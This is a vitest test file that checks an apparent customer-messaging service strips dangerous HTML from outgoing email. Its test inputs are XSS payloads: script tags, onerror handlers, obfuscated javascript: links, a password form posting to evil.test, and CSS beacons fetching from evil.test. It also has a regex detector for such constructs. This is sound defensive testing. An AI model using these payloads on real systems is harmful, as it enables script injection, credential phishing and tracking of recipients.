import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Channel } from '@throughline/protocol/channels/channels.ts'
import type { Customer } from '@throughline/protocol/customers/customers.ts'
import type { Entry } from '@throughline/protocol/timeline/entry.ts'
import { parse, type DefaultTreeAdapterTypes } from 'parse5'
import PostalMime from 'postal-mime'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { startTestApp, type TestApp } from '../../app.ts'
import { startSmtpSink, type SmtpSink } from '../../mail/smtp-sink.ts'

// People and programs that may write to customers write HTML, which is sent in our name.

let sink: SmtpSink
let app: TestApp
let channelId: string
let customer: Customer
beforeAll(async () => {
  sink = await startSmtpSink()
  app = await startTestApp({ env: { SMTP_URL: `smtp://127.0.0.1:${sink.port}` } })
  const settings = { address: 'help@shop.test' }
  channelId = (await app.api<Channel>('POST', '/channels', { kind: 'email', name: 'Help', settings })).id
  customer = await app.api('POST', '/customers', { identities: [{ kind: 'email', value: 'ana@mail.test' }] })
})
afterAll(async () => {
  await app.stop()
  await sink.close()
})

async function sentHtml(html: string): Promise<string> {
  const before = sink.mails.length
  const message = { kind: 'message', channelId, text: 'Hello', content: { html } }
  await app.api<Entry>('POST', `/customers/${customer.id}/entries`, message)
  await expect.poll(() => sink.mails.length, { timeout: 15_000 }).toBe(before + 1)
  return (await PostalMime.parse(sink.mails.at(-1)!.raw)).html ?? ''
}

/** What a mail program that forbids nothing would run, send or fetch, pictures left out. */
function dangersIn(html: string): string[] {
  const dangers: string[] = []
  const visit = (node: DefaultTreeAdapterTypes.Node): void => {
    if ('tagName' in node) {
      if (/^(?:script|iframe|object|embed|form|input|button|link|meta|base|svg|math|template)$/.test(node.tagName)) {
        dangers.push(`<${node.tagName}>`)
      }
      for (const { name, value } of node.attrs) {
        const url = value.replace(/[\s\p{Cc}]/gu, '').toLowerCase()
        if (name.startsWith('on') || name === 'srcdoc' || name === 'action') dangers.push(`${name}=${value}`)
        if (/^(?:javascript|vbscript|data:text)/.test(url)) dangers.push(`${name}=${value}`)
        if (name === 'style' && /url\(|expression|@import/i.test(value)) dangers.push(`style=${value}`)
      }
    }
    if (node.nodeName === '#text' && 'value' in node && node.parentNode?.nodeName === 'style') {
      if (/url\(|@import|expression/i.test(node.value)) dangers.push(`style sheet ${node.value}`)
    }
    if ('childNodes' in node) node.childNodes.forEach(visit)
  }
  visit(parse(html))
  return dangers
}

test.each([
  '<p>Hi</p><script>alert(1)</script>',
  '<img src=x onerror="alert(1)">',
  '<a href="java&#10;script:alert(1)">Your invoice</a>',
  '<form action="https://evil.test"><input name="password"><button>Sign in</button></form>',
  '<style>@import "https://evil.test/x.css"; p { background: url(https://evil.test/seen) }</style><p>Hi</p>',
  '<div style="background: url(https://evil.test/seen)">Hi</div>',
  '<iframe src="https://evil.test"></iframe><meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<svg><script>alert(1)</script></svg>',
])('%s does not leave in our name', async (html) => {
  const sent = await sentHtml(html)
  expect(sent).not.toBe('')
  expect(dangersIn(sent)).toEqual([])
})

test('nor does any of thousands of payloads', async () => {
  const file = join(import.meta.dirname, '../../corpus/html/xss-payload-list/xss-payload-list.txt')
  const payloads = readFileSync(file, 'utf8').split('\n')
  for (let from = 0; from < payloads.length; from += 500) {
    const some = payloads.slice(from, from + 500).map((payload) => `<div>${payload}</div>`)
    expect(dangersIn(await sentHtml(some.join('\n')))).toEqual([])
  }
})

test('what people write is sent as they wrote it', async () => {
  const html = '<p>Dear <strong>Ana</strong>,</p><ul><li><a href="https://shop.test/a">here</a></li></ul>'
  expect((await sentHtml(html)).trim()).toBe(html)
})
